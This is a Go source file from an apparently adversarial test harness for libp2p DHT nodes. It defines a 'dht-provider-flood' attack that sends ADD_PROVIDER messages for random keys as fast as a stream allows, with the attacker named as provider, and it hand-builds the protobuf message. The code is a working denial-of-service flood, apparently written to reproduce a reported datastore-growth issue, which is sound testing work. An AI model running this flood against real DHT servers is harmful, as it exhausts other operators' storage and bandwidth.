package hostile

import (
	"context"
	"encoding/binary"
	"time"

	ma "github.com/multiformats/go-multiaddr"
)

// dhtProviderFlood sends ADD_PROVIDER messages for random keys, as fast as
// the stream takes them, each naming the attacker itself as the provider
// (with a made-up address), which is all a DHT server checks (issue 11
// item 4: 76,538 in 4 s grew a node's datastore by 6.8 MB). The target
// must run its DHT in server mode (--dht-server).
var dhtProviderFlood = Attack{
	Name:  "dht-provider-flood",
	About: "ADD_PROVIDER messages for random keys as fast as the stream takes them, to a DHT server (issue 11 item 4)",
	run: func(ctx context.Context, t Target, o Options, r *recorder) {
		addr := ma.StringCast("/ip4/192.0.2.1/tcp/4001").Bytes() // TEST-NET-1: nobody
		each(o.Attackers, func(int) {
			a, err := r.newAttacker(false)
			if err != nil {
				r.fail(err)
				return
			}
			defer a.Close()
			rng := newRand()
			self := []byte(a.host.ID())
			for ctx.Err() == nil {
				octx, cancel := context.WithTimeout(ctx, 15*time.Second)
				s, err := a.Open(octx, t, dhtProtocol)
				cancel()
				if err != nil {
					r.answer("dht: refused")
					if !pause(ctx, time.Second) {
						return
					}
					continue
				}
				r.streams.Add(1)
				stop := cutOnDone(ctx, s)
				_ = s.SetWriteDeadline(time.Now().Add(time.Minute))
				for ctx.Err() == nil {
					var key [34]byte
					key[0], key[1] = 0x12, 0x20 // a sha2-256 multihash
					copy(key[2:], randomKeys(rng, 1)[0][:32])
					m := addProvider(key[:], self, addr)
					if _, err := s.Write(m); err != nil {
						r.answer(streamEnd("dht", err))
						break
					}
					r.sent(1, len(m))
				}
				stop()
				_ = s.Reset()
			}
		})
	},
}

// addProvider is one ADD_PROVIDER message of the DHT protocol, varint
// length-delimited protobuf (go-libp2p-kad-dht pb.Message: type = 1,
// key = 2, providerPeers = 9; Peer: id = 1, addrs = 2).
func addProvider(key, self, addr []byte) []byte {
	var peerMsg []byte
	peerMsg = appendField(peerMsg, 1, self)
	peerMsg = appendField(peerMsg, 2, addr)
	var m []byte
	m = append(m, 1<<3, 2) // field 1 (varint): type ADD_PROVIDER
	m = appendField(m, 2, key)
	m = appendField(m, 9, peerMsg)
	return append(binary.AppendUvarint(nil, uint64(len(m))), m...)
}

// appendField appends a length-delimited protobuf field.
func appendField(dst []byte, field int, b []byte) []byte {
	dst = binary.AppendUvarint(dst, uint64(field)<<3|2)
	dst = binary.AppendUvarint(dst, uint64(len(b)))
	return append(dst, b...)
}
